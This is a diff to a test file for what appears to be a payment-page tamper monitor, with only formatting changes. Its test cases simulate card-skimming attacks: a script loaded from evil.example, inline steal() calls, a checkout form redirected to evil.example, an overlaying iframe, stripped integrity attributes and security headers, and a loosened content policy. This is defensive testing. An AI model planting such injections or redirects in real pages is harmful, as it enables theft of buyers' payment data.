@@ -76,15 +76,34 @@ describe('11.6.1: the form is looked at from outside', () => {
   });
 
   it.each<[string, Tamper]>([
-    ['a script that somebody added', ({ path, body }) => (isPage(path) ? { body: body.replace('</head>', '<script src="https://evil.example/s.js"></script></head>') } : {})],
-    ['a script inside the page', ({ path, body }) => (isPage(path) ? { body: body.replace('</body>', '<script>steal()</script></body>') } : {})],
+    [
+      'a script that somebody added',
+      ({ path, body }) =>
+        isPage(path) ? { body: body.replace('</head>', '<script src="https://evil.example/s.js"></script></head>') } : {},
+    ],
+    [
+      'a script inside the page',
+      ({ path, body }) => (isPage(path) ? { body: body.replace('</body>', '<script>steal()</script></body>') } : {}),
+    ],
     ['a handler on a tag', ({ path, body }) => (isPage(path) ? { body: body.replace('<main', '<main onkeyup="steal()"') } : {})],
-    ['an integrity attribute that was taken off', ({ path, body }) => (isPage(path) ? { body: body.replace(/ integrity="[^"]+"/, '') } : {})],
-    ['the card page’s own script left out', ({ path, body }) => (isPage(path) ? { body: body.replace(/<script src="\/assets\/card[^>]*><\/script>/, '') } : {})],
+    [
+      'an integrity attribute that was taken off',
+      ({ path, body }) => (isPage(path) ? { body: body.replace(/ integrity="[^"]+"/, '') } : {}),
+    ],
+    [
+      'the card page’s own script left out',
+      ({ path, body }) => (isPage(path) ? { body: body.replace(/<script src="\/assets\/card[^>]*><\/script>/, '') } : {}),
+    ],
     ['other bytes in the card page’s own script', ({ path, body }) => (path.includes('/card.') ? { body: `${body};steal()` } : {})],
-    ['a form that leads elsewhere', ({ path, body }) => (isPage(path) ? { body: body.replace(/action="\/pay/, 'action="https://evil.example/pay') } : {})],
-    ['a frame over the form', ({ path, body }) => (isPage(path) ? { body: body.replace('<main', '<iframe src="https://evil.example"></iframe><main') } : {})],
-    ['a policy that lets more in', ({ headers }) => ({ headers: { ...headers, 'content-security-policy': "script-src *" } })],
+    [
+      'a form that leads elsewhere',
+      ({ path, body }) => (isPage(path) ? { body: body.replace(/action="\/pay/, 'action="https://evil.example/pay') } : {}),
+    ],
+    [
+      'a frame over the form',
+      ({ path, body }) => (isPage(path) ? { body: body.replace('<main', '<iframe src="https://evil.example"></iframe><main') } : {}),
+    ],
+    ['a policy that lets more in', ({ headers }) => ({ headers: { ...headers, 'content-security-policy': 'script-src *' } })],
     ['a header that was taken off', ({ headers: { 'strict-transport-security': _off, ...headers } }) => ({ headers })],
     ['other bytes in a script', ({ path, body }) => (path.endsWith('.js') ? { body: `${body};steal()` } : {})],
   ])('is different with %s: metric and log say so, without the buyer’s link', async (_name, tamper) => {
@@ -93,7 +112,7 @@ describe('11.6.1: the form is looked at from outside', () => {
     expect(result).toBe('different');
     expect(logged.length).toBeGreaterThan(0);
     expect(logged.join()).not.toContain(link);
-  }); // prettier-ignore
+  });
 
   it('says so where it cannot look: the metric is unreachable, and the log has it', async () => {
     const { url, hangUp, stop } = await startProxy(() => ({}));
